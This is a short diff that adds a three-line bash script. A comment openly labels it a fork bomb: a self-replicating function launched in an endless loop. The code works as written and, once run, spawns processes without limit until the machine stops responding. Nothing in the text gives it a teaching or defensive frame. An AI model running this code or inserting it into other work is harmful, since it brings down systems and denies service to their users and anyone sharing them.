@@ -1,0 +1,3 @@
+# The fork bomb: every process starts two more, for ever.
+b() { b | b & }
+while :; do b; done
